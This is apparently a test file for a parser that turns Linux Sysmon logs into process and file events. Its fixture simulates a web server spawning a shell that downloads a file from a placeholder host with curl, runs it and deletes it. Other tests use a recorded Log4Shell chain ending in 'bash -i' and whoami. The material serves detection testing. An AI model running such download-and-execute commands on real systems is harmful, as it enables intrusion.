import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { EventOf, TelemetryEvent } from "@limpid/core";
import { describe, expect, it, test } from "vitest";
import { corpusPath } from "../../../../../tests/support/corpus.ts";
import { processorMs } from "../../../../../tests/support/processor-time.ts";
import { accountedFor, readFiles, readLog } from "../../testing/read.ts";
import { SysmonLog } from "../../testing/sysmon-log.ts";
import { recogniseSource } from "../index.ts";
import { sysmonLinux } from "./source.ts";
import { parseSysmonXml, unescapeXml } from "./xml.ts";

const samples = corpusPath("telemetry", "sysmon_linux");

function of<K extends TelemetryEvent["kind"]>(told: readonly TelemetryEvent[], kind: K): readonly EventOf<K>[] {
  return told.filter((event): event is EventOf<K> => event.kind === kind);
}

function drop(header = ""): SysmonLog {
  const log = new SysmonLog({ header });
  const server = log.running("/usr/sbin/nginx");
  const shell = log.spawn(server, "/bin/dash", "sh -c 'curl -o /tmp/a http://x/a'");
  log.exec(shell, "/usr/bin/curl", "curl -o /tmp/a http://x/a", server).create(shell, "/tmp/a").exit(shell);
  log.spawn(server, "/tmp/a", "/tmp/a");
  return log.remove(server, "/tmp/a");
}

describe("a drop", () => {
  const whole = readLog(sysmonLinux, drop().log);

  it("is told from the shell to the removal", () => {
    expect(whole.events.map(({ kind }) => kind)).toEqual([
      "account.named",
      "process.executed",
      "process.executed",
      "file.opened",
      "process.exited",
      "process.executed",
      "file.removed",
    ]);
    expect(whole.events[2]).toMatchObject({
      id: "2026-11-22T06:00:00.006120000Z#501",
      time: "2026-11-22T06:00:00.006120000Z",
      host: "web-3",
      image: "/usr/bin/curl",
      argv: ["curl", "-o", "/tmp/a", "http://x/a"],
      argvComplete: false,
      process: { pid: 4101, ppid: 4100, uid: 33, session: null, terminal: undefined, cwd: "/srv" },
    });
    expect(whole.events[3]).toMatchObject({ file: { path: "/tmp/a", pathBasis: "absolute" }, created: true });
  });

  it("keeps one id for a process through its images", () => {
    const [first, second] = of(whole.events, "process.executed");
    expect(first?.process.sensorId).toBe("4101:1795327200");
    expect(second?.process.sensorId).toBe(first?.process.sensorId);
    expect(second?.process.parentSensorId).toBe("4100:1795327140");
    expect(first?.process.startedAt).toBe(1_795_327_200_000);
  });

  test.each([
    { name: "behind a header of syslog", log: drop("Nov 22 06:00:00 web-3 sysmon: ").log },
    { name: "behind a header of RFC 5424", log: drop("<14>1 2026-11-22T06:00:00Z web-3 sysmon - - - ").log },
    { name: "with carriage returns", log: drop().log.replaceAll("\n", "\r\n") },
    {
      name: "in JSON of Azure",
      log: drop()
        .lines.map((line) => JSON.stringify({ SyslogMessage: line }))
        .join("\n"),
    },
    {
      name: "in JSON of the journal",
      log: drop()
        .lines.map((line) => JSON.stringify({ MESSAGE: line }))
        .join("\n"),
    },
    {
      name: "in JSON of the journal, as bytes",
      log: drop()
        .lines.map((line) => JSON.stringify({ MESSAGE: [...Buffer.from(line)] }))
        .join("\n"),
    },
    {
      name: "in JSON of Beats",
      log: drop()
        .lines.map((line) => JSON.stringify({ event: { original: `Nov 22 h sysmon: ${line}` } }))
        .join("\n"),
    },
    {
      name: "in two shippers",
      log: drop()
        .lines.map((line) => JSON.stringify({ _source: { message: line } }))
        .join("\n"),
    },
  ])("$name is the same", ({ log }) => {
    expect(readLog(sysmonLinux, log).events).toEqual(whole.events);
    expect(recogniseSource(log)?.name).toBe("sysmon-linux");
    expect(sysmonLinux.startsAt(log)).toBe(Date.UTC(2026, 10, 22, 6, 0, 0, 3));
  });

  it("is found among lines of other programs", () => {
    const log = drop("Nov 22 06:00:00 web-3 sysmon: ").log;
    const others = "Nov 22 06:00:00 web-3 cron[1]: (root) CMD (true)\n".repeat(50);
    const { events, counts } = readLog(sysmonLinux, others + log);
    expect(events).toEqual(whole.events);
    expect(counts.ignored).toEqual({ "other-line": 50 });
    expect(recogniseSource(others + log)?.name).toBe("sysmon-linux");
  });
});

test("a file of lines and one of JSON in one reading", () => {
  const { lines } = drop();
  const json = lines.slice(3).map((line) => JSON.stringify({ message: line }));
  const { events, counts } = readFiles(sysmonLinux, [
    `\n\n${lines.slice(0, 3).join("\n")}`,
    json.join("\n"),
    `${lines[0]}\n`,
  ]);
  expect(events).toEqual(readLog(sysmonLinux, drop().log).events);
  expect(counts.skipped).toEqual({ duplicate: 1, empty: 2 });
  expect(accountedFor(counts)).toBe(counts.linesRead);
});

describe("values", () => {
  function executed(fields: Readonly<Record<string, string>>) {
    const log = new SysmonLog();
    log.event(1, {
      UtcTime: "2026-11-22 06:00:00.000",
      ProcessId: "77",
      ProcessGuid: "{94325212-a5a0-6b02-0000-000000000000}",
      Image: "/tmp/x",
      ...fields,
    });
    return of(readLog(sysmonLinux, log.log).events, "process.executed")[0];
  }

  test.each(["-", "(null)", "<unknown process>"])("%s stands for none", (image) => {
    expect(executed({ Image: image })).toMatchObject({ image: undefined, process: { name: undefined } });
  });

  it("an image without a slash is the name of a task", () => {
    expect(executed({ Image: "java" })).toMatchObject({ image: undefined, process: { name: "java" } });
  });

  it("a GUID of zeros is no id", () => {
    const guid = "{00000000-0000-0000-0000-000000000000}";
    expect(executed({ ProcessGuid: guid })?.process).not.toHaveProperty("sensorId");
    expect(executed({ ProcessGuid: guid })?.process).not.toHaveProperty("startedAt");
  });

  test.each([
    { text: "/tmp/x", argv: ["/tmp/x"], argvComplete: true },
    { text: "sh -c  ls", argv: ["sh", "-c", "ls"], argvComplete: false },
    { text: "-", argv: [], argvComplete: false },
  ])("a command line of $text", ({ text, ...read }) => expect(executed({ CommandLine: text })).toMatchObject(read));

  it("a hash is taken where there is one", () => {
    const Hashes = `SHA1=${"a".repeat(40)},SHA256=${"B".repeat(64)}`;
    expect(executed({ Hashes })?.file).toMatchObject({ path: "/tmp/x", sha256: "b".repeat(64) });
    expect(executed({ Hashes: "-" })?.file.sha256).toBeUndefined();
  });

  test.each([
    { escaped: "a &lt;b&gt; &amp;amp; &quot;c&apos; &#65;&#x42;", text: "a <b> &amp; \"c' AB" },
    { escaped: "&lt unknown process&gt ", text: "<unknown process>" },
    { escaped: "wql &quot SELECT&quot ", text: 'wql "SELECT"' },
    { escaped: "a && b & c &nbsp; &#x110000; &#;", text: "a && b & c &nbsp; &#x110000; &#;" },
  ])("$escaped is $text", ({ escaped, text }) => expect(unescapeXml(escaped)).toBe(text));

  it("keeps names that are no UTF-8", () => {
    const log = new SysmonLog();
    log.create(log.running("/bin/cp"), "/tmp/MARK");
    const { events } = readLog(sysmonLinux, log.log.replace("MARK", "\xff\xfe"));
    expect(of(events, "file.opened")[0]?.file.path).toBe("/tmp/\udcff\udcfe");
  });
});

describe("damage", () => {
  const [exec = "", , , exit = ""] = drop().lines;

  it("an event that syslog cut is read as far as it goes", () => {
    const cut = exec.slice(0, exec.indexOf("http"));
    const { events, counts } = readLog(sysmonLinux, `${cut}\n${exit}\n`);
    expect(of(events, "process.executed")).toMatchObject([{ image: "/bin/dash", argvComplete: false }]);
    expect(of(events, "process.exited")).toHaveLength(1);
    expect(counts).toMatchObject({ linesRead: 2, recordsUsed: 2 });
  });

  it("a cut word is not a whole argument", () => {
    const log = new SysmonLog();
    log.exec(log.running("/bin/sh"), "/tmp/x", "/tmp/x-and-more");
    const cut = log.log.slice(0, log.log.indexOf("-and"));
    expect(readLog(sysmonLinux, cut).events.at(-1)).toMatchObject({ argv: ["/tmp/x"], argvComplete: false });
  });

  it("a cut path names nothing", () => {
    const log = new SysmonLog();
    log.create(log.running("/bin/sh"), "/tmp/long-name");
    const cut = log.log.slice(0, log.log.indexOf("-name"));
    expect(readLog(sysmonLinux, cut)).toMatchObject({ events: [], counts: { skipped: { cut: 1 } } });
  });

  it("a command line may hold line feeds", () => {
    const log = new SysmonLog();
    const shell = log.running("/bin/sh");
    log.exec(shell, "/bin/sh", "sh -c ls\n\nid\n").create(shell, "/tmp/a");
    const { events, counts } = readLog(sysmonLinux, log.log);
    expect(of(events, "process.executed")).toMatchObject([{ argv: ["sh", "-c", "ls\n\nid\n"] }]);
    expect(counts).toMatchObject({ linesRead: 2, recordsUsed: 2 });
  });

  it("lines behind a cut event are their own", () => {
    const cut = exec.slice(0, exec.indexOf("http"));
    const { counts } = readLog(sysmonLinux, `${cut}\nNov 22 h cron: x\n\n${exit}\nrest</Data></EventData>\n`);
    expect(counts).toMatchObject({
      linesRead: 5,
      recordsUsed: 2,
      ignored: { "other-line": 1 },
      skipped: { empty: 1, "no-head": 1 },
    });
  });

  it("events of Windows are another source's", () => {
    const log = drop().log.replaceAll("Linux-Sysmon", "Microsoft-Windows-Sysmon");
    expect(sysmonLinux.recognise(log)).toBe(0);
    expect(readLog(sysmonLinux, log).counts.skipped).toEqual({ "other-provider": 6 });
  });

  it("numbers that are missing are lost events, those that come late are not", () => {
    const log = new SysmonLog();
    const shell = log.running("/bin/sh");
    log.create(shell, "/tmp/a").lose(5).create(shell, "/tmp/b").create(shell, "/tmp/c");
    const [first, second, third] = log.lines;
    expect(readLog(sysmonLinux, log.log).counts.lost).toEqual({ "web-3": 5 });
    expect(readLog(sysmonLinux, [first, third, second].join("\n")).counts.lost).toEqual({ "web-3": 5 });
  });

  test.each([
    { name: "openings without ends", line: '<Event><Data Name="'.repeat(50_000) },
    { name: "fields without values", line: `<Event>${PROVIDED}${'<Data Name="a">'.repeat(50_000)}` },
    { name: "entities", line: `<Event>${PROVIDED}<Data Name="Image">${"&lt".repeat(300_000)}` },
  ])("hostile lines of $name take no time", ({ line }) => {
    const began = processorMs();
    const { counts } = readLog(sysmonLinux, `${line}\n`.repeat(4));
    expect(processorMs() - began).toBeLessThan(2000);
    expect(accountedFor(counts)).toBe(counts.linesRead);
  });

  it("fields beyond the first sixty-four are not kept", () => {
    const many = Array.from({ length: 1000 }, (_, index) => `<Data Name="n${index}">x</Data>`).join("");
    expect(parseSysmonXml(many).data.size).toBe(64);
  });
});

const PROVIDED =
  '<System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-11-22T06:00:00Z"/>';

describe.skipIf(samples === undefined)("the recorded attack on a web application", () => {
  const json = readFileSync(join(samples ?? "", "otrf_log4shell_sysmon.jsonl"), "latin1");
  const lines = readFileSync(join(samples ?? "", "otrf_log4shell_sysmon_xml_only.log"), "latin1");

  it("is the same in JSON and as lines, and each line has its place", () => {
    const read = readLog(sysmonLinux, lines);
    expect(readLog(sysmonLinux, json).events).toEqual(read.events);
    expect(recogniseSource(json)?.name).toBe("sysmon-linux");
    expect(recogniseSource(lines)?.name).toBe("sysmon-linux");
    expect(read.counts).toMatchObject({ linesRead: 93, recordsUsed: 87, ignored: { "event-3": 6 }, skipped: {} });
  });

  it("shows the chain from Java to whoami", () => {
    const executed = of(readLog(sysmonLinux, lines).events, "process.executed");
    expect(executed).toHaveLength(31);
    const chain = ["/bin/bash", "/usr/bin/base64", "/usr/bin/whoami"];
    for (const image of chain) expect(executed.map((event) => event.image)).toContain(image);
    const shell = executed.find(({ process }) => process.pid === 17790);
    expect(shell?.argv[0]).toBe("bash");
    const whoami = executed.find(({ image }) => image === "/usr/bin/whoami");
    const parent = executed.find(({ process }) => process.sensorId === whoami?.process.parentSensorId);
    expect(parent?.argv).toEqual(["bash", "-i"]);
  });

  it("gives dpkg and dpkg-query of one process one id, and two programs of one address two", () => {
    const executed = of(readLog(sysmonLinux, lines).events, "process.executed");
    const idsOf = (...pids: readonly number[]) =>
      new Set(executed.filter(({ process }) => pids.includes(process.pid)).map(({ process }) => process.sensorId)).size;
    expect(idsOf(17809)).toBe(1);
    expect(idsOf(17825, 17829)).toBe(2);
  });
});
